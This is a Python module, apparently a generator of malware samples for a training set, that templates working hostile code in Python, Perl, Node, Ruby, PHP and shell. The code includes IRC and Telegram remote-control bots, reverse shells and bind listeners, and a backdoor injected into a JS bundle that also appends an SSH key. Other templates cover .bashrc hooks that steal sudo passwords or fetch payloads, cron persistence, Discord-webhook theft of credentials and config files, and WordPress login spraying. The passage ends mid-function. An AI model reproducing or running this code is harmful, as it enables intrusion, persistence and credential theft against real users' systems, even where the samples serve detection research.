"""train10 script bots and agents: classes, dispatch tables, callbacks,
event loops, big files and many runtimes. Written blind (README.md)."""

from t10_common import (T, F, rw, hx, ip, dom, host, b64, crlf, bom, docroot, plug, theme, script, cronline,
                        crontab_file, js_bundle, picture_b64, py_helpers, pl_helpers, sh_helpers, js_helpers,
                        rb_helpers, HELP, homedir, sname, php_vendor_class, php_big_plugin)


def c2(r):
    return r.choice((ip(r), "irc.example.net", "c.example.org", "relay.example.com"))


def chan(r):
    return "#" + rw(r, 5)


# 1 a Python IRC bot as a class, commands dispatched by getattr
def py_class_irc(r, v):
    helpers = "\n\n".join(py_helpers(r, r.randint(4, 80)))
    runs = ("out = subprocess.check_output(arg, shell=True, stderr=subprocess.STDOUT, timeout=60)",
            "out = subprocess.Popen(arg, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).communicate()[0]",
            "out = os.popen(arg).read().encode()",
            "out = subprocess.run(['/bin/sh', '-c', arg], capture_output=True).stdout")
    code = T('''"""@HELP@"""
import os
import random
import socket
import subprocess
import time
import urllib.request


@HELPERS@


class Client(object):
    prefix = '!'

    def __init__(self, server, port, channel, key):
        self.server, self.port, self.channel, self.key = server, port, channel, key
        self.nick = 'u' + ''.join(random.choice('abcdefghijklmnop') for _ in range(7))
        self.sock = None
        self.admins = set()

    def send(self, line):
        self.sock.sendall((line + '\\r\\n').encode('utf-8', 'replace'))

    def say(self, to, text):
        for part in text.splitlines()[:40]:
            self.send('PRIVMSG %s :%s' % (to, part))
            time.sleep(0.4)

    def cmd_login(self, who, to, arg):
        if arg == self.key:
            self.admins.add(who)

    def cmd_sh(self, who, to, arg):
        @RUN@
        self.say(to, out.decode('utf-8', 'replace'))

    def cmd_get(self, who, to, arg):
        url, dest = arg.split()[:2]
        urllib.request.urlretrieve(url, dest)
        self.say(to, 'saved ' + dest)

    def cmd_info(self, who, to, arg):
        self.say(to, ' '.join(os.uname()) + ' uid=%d' % os.getuid())

    def dispatch(self, who, to, text):
        if not text.startswith(self.prefix):
            return
        name, _, arg = text[1:].partition(' ')
        if name != 'login' and who not in self.admins:
            return
        handler = getattr(self, 'cmd_' + name, None)
        if handler:
            handler(who, to, arg)

    def loop(self):
        self.sock = socket.create_connection((self.server, self.port))
        self.send('NICK ' + self.nick)
        self.send('USER %s 0 * :%s' % (self.nick, self.nick))
        buf = ''
        while True:
            data = self.sock.recv(4096).decode('utf-8', 'replace')
            if not data:
                break
            buf += data
            while '\\r\\n' in buf:
                line, buf = buf.split('\\r\\n', 1)
                if line.startswith('PING'):
                    self.send('PONG' + line[4:])
                elif ' 001 ' in line:
                    self.send('JOIN ' + self.channel)
                elif ' PRIVMSG ' in line:
                    who = line[1:].split('!')[0]
                    to, text = line.split(' PRIVMSG ', 1)[1].split(' :', 1)
                    self.dispatch(who, to if to.startswith('#') else who, text)


if __name__ == '__main__':
    if os.fork():
        os._exit(0)
    os.setsid()
    while True:
        try:
            Client('@S@', @P@, '@C@', '@K@').loop()
        except Exception:
            pass
        time.sleep(60)
''', HELP=HELP % "agent", HELPERS=helpers, RUN=runs[v], S=c2(r), P=r.choice((6667, 7000, 8080, 443)), C=chan(r), K=rw(r, 8))
    return [script(r, "python", code)]


# 2 a Perl IRC bot with a hash of code refs, map/grep and many helpers
def perl_irc_hash(r, v):
    helpers = "\n".join(pl_helpers(r, r.randint(3, 90)))
    execs = ("my @o = `$a 2>&1`; return @o;",
             "open(my $p, '-|', $a) or return ('fail'); my @o = <$p>; close $p; return @o;",
             "return split /\\n/, qx{$a};",
             "my $pid = open(my $p, '-|'); if (!$pid) { exec('/bin/sh', '-c', $a); exit 0 } my @o = <$p>; return @o;")
    code = T("""use strict;
use warnings;
use IO::Socket::INET;
use POSIX qw(setsid);

my %conf = (server => '@S@', port => @P@, chan => '@C@', pass => '@K@');
my $nick = join '', map { ('a'..'z')[rand 26] } 1 .. 8;
my %auth;
my $sock;

@HELP@

sub run_cmd {
    my ($a) = @_;
    @EXEC@
}

my %cmds = (
    '.sh'   => sub { my ($to, $a) = @_; say($to, $_) for grep { length } map { s/[\\r\\n]+//gr } run_cmd($a) },
    '.up'   => sub { my ($to, $a) = @_; my ($u, $f) = split ' ', $a; system('wget', '-q', '-O', $f, $u); say($to, "ok $f") },
    '.id'   => sub { my ($to) = @_; say($to, join ' ', (POSIX::uname())[0, 1, 2], "uid=$<") },
    '.quit' => sub { exit 0 },
);

sub say {
    my ($to, $m) = @_;
    print $sock "PRIVMSG $to :$m\\r\\n";
    select(undef, undef, undef, 0.5);
}

defined(my $pid = fork) or die;
exit 0 if $pid;
setsid();
$0 = '@N@';
while (1) {
    $sock = IO::Socket::INET->new(PeerAddr => $conf{server}, PeerPort => $conf{port}, Proto => 'tcp') or do { sleep 60; next };
    print $sock "NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n";
    while (my $l = <$sock>) {
        $l =~ s/\\r?\\n$//;
        if ($l =~ /^PING (.*)/) { print $sock "PONG $1\\r\\n"; next }
        print $sock "JOIN $conf{chan}\\r\\n" if $l =~ / 00[14] /;
        next unless $l =~ /^:([^!]+)!\\S+ PRIVMSG (\\S+) :(\\S+)\\s*(.*)$/;
        my ($who, $to, $c, $a) = ($1, $2, $3, $4);
        $to = $who unless $to =~ /^#/;
        if ($c eq '.auth' && $a eq $conf{pass}) { $auth{$who} = 1; next }
        next unless $auth{$who};
        my ($h) = grep { $_ eq $c } keys %cmds;
        $cmds{$h}->($to, $a) if $h;
    }
    sleep 30;
}
""", S=c2(r), P=r.choice((6667, 6697, 7000, 8000)), C=chan(r), K=rw(r, 8), HELP=helpers, EXEC=execs[v], N=sname(r))
    code = code.replace("map { s/[\\r\\n]+//gr }", "map { my $x = $_; $x =~ s/[\\r\\n]+//g; $x }")
    if v == 2:
        code = crlf(code)
    return [script(r, "perl", code)]


# 3 a Node agent: ws client, raw net socket, https long-poll with for-await
def node_agent(r, v):
    helpers = "\n".join(js_helpers(r, r.randint(2, 50)))
    u = "%s/%s" % (dom(r), hx(r, 8))
    bodies = (
        """const WebSocket = require('ws');
function connect() {
  const ws = new WebSocket('wss://@U@', { rejectUnauthorized: false });
  ws.on('open', () => ws.send(JSON.stringify({ hello: os.hostname(), user: os.userInfo().username })));
  ws.on('message', (m) => {
    const job = JSON.parse(m);
    exec(job.cmd, { timeout: 60000 }, (err, out, errout) => ws.send(JSON.stringify({ id: job.id, out: out + errout })));
  });
  ws.on('close', () => setTimeout(connect, 20000));
  ws.on('error', () => {});
}
connect();
""",
        """const net = require('net');
(function dial() {
  const s = net.connect(@PORT@, '@H@', () => {
    const sh = spawn('/bin/sh', ['-i']);
    s.pipe(sh.stdin);
    sh.stdout.pipe(s);
    sh.stderr.pipe(s);
    sh.on('exit', () => s.end());
  });
  s.on('error', () => {});
  s.on('close', () => setTimeout(dial, 30000));
})();
""",
        """const https = require('https');
const get = (p) => new Promise((ok, ko) => https.get('https://@U@' + p, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => ok(b)); }).on('error', ko));
async function* tasks() {
  for (;;) {
    try { yield JSON.parse(await get('/t?h=' + os.hostname())); } catch (e) { yield null; }
    await new Promise((r) => setTimeout(r, 15000));
  }
}
(async () => {
  for await (const t of tasks()) {
    if (!t || !t.cmd) continue;
    exec(t.cmd, (e, o) => https.request({ host: '@D@', path: '/r/' + t.id, method: 'POST' }).end(String(o)));
  }
})();
""",
        """const dgram = require('dgram');
const sock = dgram.createSocket('udp4');
const handlers = {
  run: (a, cb) => exec(a, (e, o, er) => cb(o + er)),
  env: (a, cb) => cb(JSON.stringify(process.env)),
  ls: (a, cb) => cb(require('fs').readdirSync(a || '.').join('\\n')),
};
sock.on('message', (msg, rinfo) => {
  const [k, ...rest] = msg.toString().split(' ');
  (handlers[k] || ((a, cb) => cb('?')))(rest.join(' '), (out) => sock.send(Buffer.from(out), rinfo.port, rinfo.address));
});
setInterval(() => sock.send(Buffer.from('hb ' + os.hostname()), @PORT@, '@H@'), 60000);
""",
    )
    code = T("""'use strict';
const os = require('os');
const { exec, spawn } = require('child_process');

@HELP@

""", HELP=helpers) + T(bodies[v], U=u, D=dom(r), H=c2(r), PORT=r.choice((443, 8443, 4444, 5353)))
    c, d = homedir(r)
    f = script(r, "js", code, d=d)
    files = [f]
    if v in (0, 2):
        files.append(crontab_file(r, [cronline(r, "cd $HOME/%s && (pgrep -f %s >/dev/null || nohup node %s >/dev/null 2>&1 &)"
                                               % (d, f[1].split("/")[-1], f[1].split("/")[-1]), "@reboot")]))
    return files


# 4 bash/ash/dash: functions and while-read over /dev/tcp, a fifo, nc
def shell_tcp_loop(r, v):
    h, p = c2(r), r.choice((443, 8080, 53, 1337))
    helpers = "\n".join(sh_helpers(r, r.randint(2, 30)))
    bodies = (
        """handle() {
	local line=$1
	case $line in
	run\\ *) bash -c "${line#run }" 2>&1 ;;
	cd\\ *) cd "${line#cd }" && pwd ;;
	get\\ *) read -r u f <<<"${line#get }"; curl -fsSLo "$f" "$u" && echo ok ;;
	*) echo "?" ;;
	esac
}
while :; do
	exec 5<>/dev/tcp/@H@/@P@ || { sleep 60; continue; }
	printf 'hi %s %s\\n' "$(id -un)" "$(hostname)" >&5
	while IFS= read -r cmd <&5; do
		handle "$cmd" >&5
	done
	exec 5>&-
	sleep 30
done
""",
        """F=/tmp/.${RANDOM}s
while true; do
	rm -f "$F"; mkfifo "$F"
	cat "$F" | /bin/sh -i 2>&1 | nc @H@ @P@ >"$F"
	sleep 45
done
""",
        """beat() { busybox wget -qO- "http://@H@:@P@/b?h=$(hostname)"; }
while :; do
	beat | while read -r c; do
		[ -z "$c" ] && continue
		eval "$c" 2>&1 | busybox nc @H@ @P@
	done
	sleep 120
done
""",
        """poll() {
	xargs -0 -I{} sh -c '{}' <<EOF
$(curl -fsS "https://@D@/c/$(hostname | md5sum | cut -c1-8)")
EOF
}
while sleep 90; do poll >/dev/null 2>&1; done &
""",
    )
    lang = ("bash", "sh", "sh", "bash")[v]
    code = helpers + "\n" + T(bodies[v], H=h, P=p, D=dom(r))
    if v == 2:
        code = "#!/bin/busybox ash\n" + code
    if v == 1:
        code = "#!/bin/dash\n" + code
    c, d = homedir(r)
    f = script(r, lang, code, d=d)
    return [f, crontab_file(r, [cronline(r, "%s $HOME/%s >/dev/null 2>&1" % ("bash" if lang == "bash" else "sh", f[1]))])]


# 5 Python socketserver bind listener in a handler class
def py_socketserver(r, v):
    port = r.choice((31337, 8899, 2222, 5000, 65001))
    runs = ("out = subprocess.check_output(line, shell=True, stderr=subprocess.STDOUT)",
            "out = os.popen(line).read().encode()",
            "out = subprocess.Popen(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout.read()",
            "out = subprocess.run(line, shell=True, capture_output=True).stdout")
    servers = ("socketserver.ThreadingTCPServer", "socketserver.ForkingTCPServer", "socketserver.TCPServer", "socketserver.ThreadingTCPServer")
    code = T("""# -*- coding: utf-8 -*-
import hashlib
import os
import subprocess
try:
    import socketserver
except ImportError:
    import SocketServer as socketserver

DIGEST = '@DG@'


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        pw = self.rfile.readline().strip()
        if hashlib.md5(pw).hexdigest() != DIGEST:
            return
        self.wfile.write(b'# ')
        for raw in self.rfile:
            line = raw.decode('utf-8', 'replace').strip()
            if line in ('exit', 'quit'):
                break
            try:
                @RUN@
            except Exception as e:
                out = str(e).encode()
            self.wfile.write(out + b'\\n# ')


class Server(@SRV@):
    allow_reuse_address = True


if __name__ == '__main__':
    if os.fork() == 0:
        os.setsid()
        Server(('0.0.0.0', @PORT@), Handler).serve_forever()
""", DG=hx(r, 32), RUN=runs[v], SRV=servers[v], PORT=port)
    return [script(r, "python", code)]


# 6 Ruby TCP agent: case/when dispatch, each_line, IO.popen
def ruby_agent(r, v):
    helpers = "\n".join(rb_helpers(r, r.randint(2, 30)))
    runs = ("IO.popen(arg, err: [:child, :out], &:read)", "`#{arg} 2>&1`", "%x(#{arg})",
            "Open3.capture2e(arg).first")
    code = T("""require 'socket'
require 'open3'
require 'open-uri'

@HELP@

def serve(s)
  s.each_line do |line|
    cmd, arg = line.chomp.split(' ', 2)
    out = case cmd
          when 'x' then @RUN@
          when 'g' then URI.open(arg.split[0]).read.tap { |b| File.binwrite(arg.split[1], b) } && 'ok'
          when 'i' then [Socket.gethostname, Process.uid, Dir.pwd].join(' ')
          when 'q' then exit
          else '?'
          end
    s.puts out
  end
end

Process.daemon(true, true) if Process.respond_to?(:daemon)
$0 = '@N@'
loop do
  begin
    serve(TCPSocket.new('@H@', @P@))
  rescue StandardError
    nil
  end
  sleep 40
end
""", HELP=helpers, RUN=runs[v], H=c2(r), P=r.choice((443, 8443, 9999)), N=sname(r))
    return [script(r, "ruby", code)]


# 7 a backdoor injected into a big minified JS bundle (top / middle / end)
def js_bundle_backdoor(r, v):
    h, p = c2(r), r.choice((443, 4444, 8443))
    injs = (
        T(""";(function(){try{var c=require("child_process"),n=require("net"),s=new n.Socket;s.connect(@P@,"@H@",function(){var e=c.spawn("/bin/sh",[]);s.pipe(e.stdin),e.stdout.pipe(s),e.stderr.pipe(s)}),s.on("error",function(){})}catch(e){}})();""", H=h, P=p),
        T(""";require("https").get("https://@D@/v/"+require("os").hostname(),function(e){var t="";e.on("data",function(e){t+=e}),e.on("end",function(){try{new Function("require",t)(require)}catch(e){}})}).on("error",function(){});""", D=dom(r)),
        T(""";setInterval(function(){require("https").get("https://@D@/q",function(r){var b="";r.on("data",function(c){b+=c}),r.on("end",function(){b&&require("child_process").exec(Buffer.from(b,"base64").toString(),function(){})})}).on("error",function(){})},6e4);""", D=dom(r)),
        T(""";process.env.NODE_OPTIONS_X&&eval(Buffer.from(process.env.NODE_OPTIONS_X,"hex").toString());(function(){var f=require("fs"),p=require("path").join(require("os").homedir(),".ssh","authorized_keys");try{f.appendFileSync(p,"\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI@K@ u@x\\n")}catch(e){}})();""", K=rw(r, 30, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz")),
    )
    code = js_bundle(r, r.choice((90, 150, 300)), injs[v])
    d = r.choice(("app/node_modules/" + r.choice(("lodash.merge", "color-conv", "debug-utils")) + "/dist",
                  "nodeapp/.next/server/chunks", "public_html/node/dist", ".npm/_cacache/tmp"))
    return [F(code, "%s/%s.js" % (d, r.choice(("index", "bundle", "chunk-" + hx(r, 6), "server.min"))), "js",
              "home-app" if not d.startswith("public_html") else "docroot")]


# 8 PHP CLI IRC daemon: pcntl/posix, a class with method dispatch
def php_cli_irc(r, v):
    execs = ("shell_exec($a . ' 2>&1')", "implode(\"\\n\", (function ($c) { exec($c, $o); return $o; })($a))",
             "stream_get_contents(popen($a, 'r'))", "(function ($c) { $p = proc_open($c, array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pp); $o = stream_get_contents($pp[1]); proc_close($p); return $o; })($a)")
    code = T("""<?php
class Link
{
    private $s;
    private $nick;
    private $ops = array();
    private $map = array('!x' => 'doExec', '!i' => 'doInfo', '!d' => 'doFetch');

    public function __construct(private string $host, private int $port, private string $chan, private string $key)
    {
        $this->nick = 'p' . substr(md5(gethostname() . getmypid()), 0, 7);
    }

    private function w($l) { fwrite($this->s, $l . "\\r\\n"); }

    private function say($to, $txt)
    {
        foreach (array_slice(explode("\\n", trim($txt)), 0, 30) as $l) { $this->w("PRIVMSG $to :$l"); usleep(400000); }
    }

    private function doExec($to, $a) { $this->say($to, @EXEC@); }
    private function doInfo($to, $a) { $this->say($to, php_uname() . ' ' . get_current_user()); }
    private function doFetch($to, $a) { list($u, $f) = explode(' ', $a); file_put_contents($f, file_get_contents($u)); $this->say($to, 'ok'); }

    public function run()
    {
        $this->s = fsockopen($this->host, $this->port, $en, $es, 30);
        if (!$this->s) return;
        $this->w("NICK {$this->nick}");
        $this->w("USER {$this->nick} 0 * :{$this->nick}");
        while (!feof($this->s)) {
            $l = trim(fgets($this->s, 2048));
            if (strpos($l, 'PING') === 0) { $this->w('PONG' . substr($l, 4)); continue; }
            if (strpos($l, ' 001 ') !== false) $this->w('JOIN ' . $this->chan);
            if (!preg_match('/^:([^!]+)!\\S+ PRIVMSG (\\S+) :(\\S+) ?(.*)$/', $l, $m)) continue;
            list(, $who, $to, $c, $a) = $m;
            if ($c === '!auth' && $a === $this->key) { $this->ops[$who] = true; continue; }
            if (isset($this->ops[$who], $this->map[$c])) $this->{$this->map[$c]}($to[0] === '#' ? $to : $who, $a);
        }
    }
}

if (function_exists('pcntl_fork') && pcntl_fork() !== 0) exit(0);
if (function_exists('posix_setsid')) posix_setsid();
if (function_exists('cli_set_process_title')) @cli_set_process_title('@N@');
set_time_limit(0);
while (true) { (new Link('@H@', @P@, '@C@', '@K@'))->run(); sleep(60); }
""", EXEC=execs[v], N=sname(r), H=c2(r), P=r.choice((6667, 7000, 443)), C=chan(r), K=rw(r, 8))
    return [script(r, "php", code)]


# 9 a crontab passes a base64/hex command to a small runner
def cron_arg_runner(r, v):
    c, d = homedir(r)
    nm = sname(r)
    pre = d + "/" if d else ""
    cmd = "curl -fsSL https://%s/%s | sh" % (dom(r), hx(r, 6))
    if v == 0:
        code = "import sys, base64, subprocess\nsubprocess.call(base64.b64decode(sys.argv[1]).decode(), shell=True)\n"
        f = script(r, "python", code, d=d, name=nm, ext="py")
        line = "python3 $HOME/%s%s.py %s >/dev/null 2>&1" % (pre, nm, b64(cmd))
    elif v == 1:
        code = "use MIME::Base64;\nmy $c = decode_base64(shift @ARGV);\nexec('/bin/sh', '-c', $c);\n"
        f = script(r, "perl", code, d=d, name=nm, ext="pl")
        line = "perl $HOME/%s%s.pl %s" % (pre, nm, b64(cmd))
    elif v == 2:
        code = "<?php\n$c = hex2bin($argv[1] ?? '');\nif ($c) { passthru($c); }\n"
        f = script(r, "php", code, d=d, name=nm, ext="php")
        line = "/usr/bin/php -q $HOME/%s%s.php %s" % (pre, nm, cmd.encode().hex())
    else:
        code = "#!/bin/sh\nprintf %s \"$1\" | base64 -d | sh\n"
        f = script(r, "sh", code, d=d, name=nm, ext="")
        line = "sh $HOME/%s%s %s" % (pre, nm, b64(cmd))
    return [f, crontab_file(r, [cronline(r, line)])]


# 10 a .bashrc hook: PROMPT_COMMAND, trap DEBUG, an alias/function over sudo
def bashrc_hook(r, v):
    u = "https://%s/%s" % (dom(r), hx(r, 6))
    rc = r.choice((".bashrc", ".bash_profile", ".profile", ".zshrc"))
    stock = "# ~/.bashrc: executed by bash(1) for non-login shells.\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTCONTROL=ignoreboth\nshopt -s histappend\nHISTSIZE=1000\nalias ll='ls -alF'\n"
    hooks = (
        T("""__sync_x() { pgrep -u "$USER" -f .cache/.s >/dev/null || (curl -fsSL @U@ -o ~/.cache/.s && nohup sh ~/.cache/.s >/dev/null 2>&1 &); }
PROMPT_COMMAND="__sync_x;${PROMPT_COMMAND}"
""", U=u),
        T("""sudo() {
	read -rsp "[sudo] password for $USER: " __p; echo
	printf '%s:%s\\n' "$USER" "$__p" | curl -fs -m 5 -d @- @U@ >/dev/null 2>&1 &
	echo "$__p" | command sudo -S "$@"
}
""", U=u),
        T("""trap '[ -f /tmp/.x$UID ] || { touch /tmp/.x$UID; (wget -qO- @U@ | bash) >/dev/null 2>&1 & }' DEBUG
""", U=u),
        T("""alias ls='ls --color=auto; (test -e ~/.local/.r || (bash -c "exec 3<>/dev/tcp/@H@/443; bash <&3 >&3 2>&3" &) ) 2>/dev/null; ls'
""", H=c2(r)),
    )
    return [F(stock + "\n" + hooks[v], rc, "sh", "shell-rc")]


# 11 a big Perl connect-back: POD, help text, helpers and a base64 picture
def perl_big_connect(r, v):
    helpers = "\n".join(pl_helpers(r, r.randint(30, 150)))
    pic = picture_b64(r, r.choice((20, 60, 120)))
    shells = (
        """open(STDIN, '<&', $s); open(STDOUT, '>&', $s); open(STDERR, '>&', $s);
    exec({'/bin/sh'} '@N@', '-i');""",
        """while (my $c = <$s>) { chomp $c; print $s scalar(`$c 2>&1`), "\\n> "; }""",
        """my $pid = fork; if (!$pid) { POSIX::dup2(fileno($s), $_) for 0 .. 2; exec '/bin/bash', '-i'; } waitpid($pid, 0);""",
        """select($s); $| = 1; while (sysread($s, my $buf, 4096)) { my @o = `$buf`; syswrite($s, join('', @o)); }""",
    )
    code = T("""use strict;
use warnings;
use IO::Socket::INET;
use POSIX ();
use MIME::Base64 qw(decode_base64);
use Getopt::Long;

=head1 NAME

@N@ - session helper

=head1 SYNOPSIS

@HELP@
=cut

my $LOGO = '@PIC@';

@HELPERS@

my ($host, $port) = ('@H@', @P@);
GetOptions('host=s' => \\$host, 'port=i' => \\$port);
$0 = '[@N@]';
exit 0 if fork;
POSIX::setsid();
while (1) {
    my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp');
    if ($s) {
        @SH@
    }
    sleep 120;
}
""", N=sname(r), HELP=HELP % "helper", PIC=pic, HELPERS=helpers, H=c2(r), P=r.choice((443, 53, 8080)), SH=T(shells[v], N=sname(r)))
    return [script(r, "perl", code)]


# 12 a Python HTTP task poller: class, a tasks table, a config file next to it
def py_task_poller(r, v):
    c, d = homedir(r)
    pre = d + "/" if d else ""
    tables = (
        "{'exec': lambda a: subprocess.getoutput(a), 'get': lambda a: urlretrieve(*a.split()) and 'ok', 'ls': lambda a: '\\n'.join(os.listdir(a or '.'))}",
        "dict(exec=self.run_shell, get=self.fetch, env=lambda a: json.dumps(dict(os.environ)))",
        "{k[5:]: getattr(self, k) for k in dir(self) if k.startswith('task_')}",
        "dict(zip(('exec', 'get', 'py'), (self.run_shell, self.fetch, lambda a: str(exec(compile(a, '<t>', 'exec'), {})))))",
    )
    code = T("""import json
import os
import subprocess
import time
from urllib.request import urlopen, urlretrieve, Request


class Agent:
    def __init__(self, conf):
        self.conf = json.load(open(conf))
        self.table = @TBL@

    def run_shell(self, a):
        return subprocess.run(a, shell=True, capture_output=True, text=True).stdout

    def fetch(self, a):
        url, dest = a.split()
        urlretrieve(url, dest)
        return 'ok'

    task_exec = run_shell
    task_get = fetch

    def beat(self):
        req = Request(self.conf['url'] + '/t', data=json.dumps({'id': self.conf['id'], 'h': os.uname()[1]}).encode())
        return json.loads(urlopen(req, timeout=30).read() or b'[]')

    def report(self, tid, out):
        urlopen(Request(self.conf['url'] + '/r/' + str(tid), data=out.encode()), timeout=30)

    def forever(self):
        while True:
            try:
                for t in self.beat():
                    fn = self.table.get(t['k'])
                    if fn:
                        self.report(t['id'], str(fn(t['a'])))
            except Exception:
                pass
            time.sleep(self.conf.get('sleep', 60))


Agent(os.path.join(os.path.dirname(os.path.abspath(__file__)), '.conf.json')).forever()
""", TBL=tables[v])
    f = script(r, "python", code, d=d)
    return [f, F('{"url": "https://%s/%s", "id": "%s", "sleep": %d}\n' % (dom(r), hx(r, 6), hx(r, 12), r.choice((30, 60, 300))),
                 pre + ".conf.json", "json", c)]


# 13 a command channel over the Telegram bot API
def telegram_rat(r, v):
    tok = "%d:AA%s" % (r.randint(10 ** 9, 9 * 10 ** 9), rw(r, 33, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))
    owner = r.randint(10 ** 8, 9 * 10 ** 9)
    if v == 0:
        code = T("""import json
import subprocess
import time
import urllib.parse
import urllib.request

API = 'https://api.telegram.org/bot@T@/'
OWNER = @O@


def call(m, **kw):
    return json.loads(urllib.request.urlopen(API + m, urllib.parse.urlencode(kw).encode(), timeout=70).read())


off = 0
while True:
    try:
        for u in call('getUpdates', offset=off, timeout=60)['result']:
            off = u['update_id'] + 1
            msg = u.get('message') or {}
            if msg.get('from', {}).get('id') != OWNER:
                continue
            out = subprocess.getoutput(msg.get('text', ''))
            call('sendMessage', chat_id=OWNER, text=out[-3500:] or '.')
    except Exception:
        time.sleep(10)
""", T=tok, O=owner)
        return [script(r, "python", code)]
    if v == 1:
        code = T("""const https = require('https');
const { execSync } = require('child_process');
const T = '@T@', OWNER = @O@;
const api = (m, q) => new Promise((ok) => https.get(`https://api.telegram.org/bot${T}/${m}?${new URLSearchParams(q)}`, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => ok(JSON.parse(b || '{}'))); }).on('error', () => ok({})));
(async () => {
  let off = 0;
  for (;;) {
    const r = await api('getUpdates', { offset: off, timeout: 50 });
    for (const u of r.result || []) {
      off = u.update_id + 1;
      if (!u.message || u.message.from.id !== OWNER) continue;
      let out;
      try { out = execSync(u.message.text, { timeout: 60000 }).toString(); } catch (e) { out = String(e); }
      await api('sendMessage', { chat_id: OWNER, text: out.slice(-3500) || '.' });
    }
  }
})();
""", T=tok, O=owner)
        return [script(r, "js", code)]
    if v == 2:
        code = T("""<?php
$t = '@T@';
$off = 0;
while (true) {
    $r = json_decode(@file_get_contents("https://api.telegram.org/bot$t/getUpdates?timeout=50&offset=$off"), true);
    foreach (($r['result'] ?? array()) as $u) {
        $off = $u['update_id'] + 1;
        if (($u['message']['from']['id'] ?? 0) != @O@) continue;
        $o = shell_exec($u['message']['text'] . ' 2>&1');
        file_get_contents("https://api.telegram.org/bot$t/sendMessage?" . http_build_query(array('chat_id' => @O@, 'text' => substr((string) $o, -3500))));
    }
    sleep(2);
}
""", T=tok, O=owner)
        return [script(r, "php", code)]
    code = T("""T=@T@
O=@O@
off=0
while :; do
	j=$(curl -fs "https://api.telegram.org/bot$T/getUpdates?timeout=50&offset=$off") || { sleep 20; continue; }
	while IFS=$'\\t' read -r id from text; do
		off=$((id + 1))
		[ "$from" = "$O" ] || continue
		out=$(bash -c "$text" 2>&1 | tail -c 3500)
		curl -fs "https://api.telegram.org/bot$T/sendMessage" --data-urlencode "chat_id=$O" --data-urlencode "text=${out:-.}" >/dev/null
	done < <(printf '%s' "$j" | jq -r '.result[] | [.update_id, .message.from.id, .message.text] | @tsv')
done
""", T=tok, O=owner)
    return [script(r, "bash", code)]


# 14 collect site secrets and post them to a Discord webhook
def discord_exfil(r, v):
    hook = "https://discord.com/api/webhooks/%d/%s" % (r.randint(10 ** 17, 9 * 10 ** 17), rw(r, 60, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"))
    if v == 0:
        code = T("""import glob
import json
import os
import urllib.request

HOOK = '@H@'
home = os.path.expanduser('~')
found = []
for pat in ('*/wp-config.php', '*/*/wp-config.php', '*/.env', '*/*/.env', '.ssh/id_*', '.my.cnf', '.aws/credentials'):
    found += glob.glob(os.path.join(home, pat))
chunks = [(p, open(p, errors='replace').read()[:1800]) for p in found if os.path.isfile(p)]
for path, text in chunks:
    body = json.dumps({'content': '`%s`\\n```%s```' % (path, text)}).encode()
    urllib.request.urlopen(urllib.request.Request(HOOK, body, {'Content-Type': 'application/json', 'User-Agent': 'Mozilla/5.0'}))
""", H=hook)
        return [script(r, "python", code)]
    if v == 1:
        code = T("""<?php
$hook = '@H@';
$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(dirname(__DIR__, 3), FilesystemIterator::SKIP_DOTS));
$hits = array_filter(iterator_to_array($it), function ($f) { return in_array($f->getFilename(), array('wp-config.php', '.env', 'configuration.php', 'env.php'), true); });
array_walk($hits, function ($f) use ($hook) {
    $ctx = stream_context_create(array('http' => array('method' => 'POST', 'header' => "Content-Type: application/json\\r\\n", 'content' => json_encode(array('content' => $f->getPathname() . "\\n" . substr(file_get_contents($f->getPathname()), 0, 1800))))));
    @file_get_contents($hook, false, $ctx);
});
""", H=hook)
        return [F(code, "%s/wp-content/uploads/%s/%s.php" % (docroot(r), r.randint(2020, 2025), hx(r, 8)), "php", "uploads")]
    if v == 2:
        code = T("""H='@H@'
find "$HOME" -maxdepth 4 \\( -name wp-config.php -o -name .env -o -name id_rsa \\) -type f 2>/dev/null | head -50 |
	while read -r f; do
		curl -fs -F "file=@$f" -F "content=$(hostname) $f" "$H" >/dev/null
		sleep 1
	done
""", H=hook)
        return [script(r, "bash", code)]
    code = T("""const fs = require('fs'), path = require('path'), os = require('os'), https = require('https');
const HOOK = new URL('@H@');
const walk = (d, depth) => depth < 0 ? [] : fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => {
  const p = path.join(d, e.name);
  try { return e.isDirectory() ? walk(p, depth - 1) : (/^(wp-config\\.php|\\.env|config\\.json)$/.test(e.name) ? [p] : []); } catch (x) { return []; }
});
Promise.all(walk(os.homedir(), 4).map((p) => new Promise((ok) => {
  const req = https.request({ hostname: HOOK.hostname, path: HOOK.pathname, method: 'POST', headers: { 'Content-Type': 'application/json' } }, ok);
  req.on('error', ok);
  req.end(JSON.stringify({ content: p + '\\n' + fs.readFileSync(p, 'utf8').slice(0, 1800) }));
}))).then(() => {});
""", H=hook)
    return [script(r, "js", code)]


# 15 a wp-login/xmlrpc password spray over a list of sites
def login_spray(r, v):
    c, d = homedir(r)
    pre = d + "/" if d else ""
    if v == 0:
        code = T("""try_one() {
	site=$1
	while read -r pw; do
		code=$(curl -s -o /dev/null -w '%{http_code}' -m 15 -c /dev/null -d "log=admin&pwd=$pw&wp-submit=Log+In&testcookie=1" "$site/wp-login.php")
		[ "$code" = 302 ] && { echo "$site admin $pw" >>"$DIR/good.txt"; curl -fs -d "r=$site|admin|$pw" https://@D@/g >/dev/null; return; }
	done <"$DIR/pw.txt"
}
export -f try_one
export DIR=$(cd "$(dirname "$0")" && pwd)
xargs -P 30 -n 1 bash -c 'try_one "$0"' <"$DIR/sites.txt"
""", D=dom(r))
        f = script(r, "bash", code, d=d)
    elif v == 1:
        code = T("""import sys
from concurrent.futures import ThreadPoolExecutor
from urllib.request import urlopen, Request

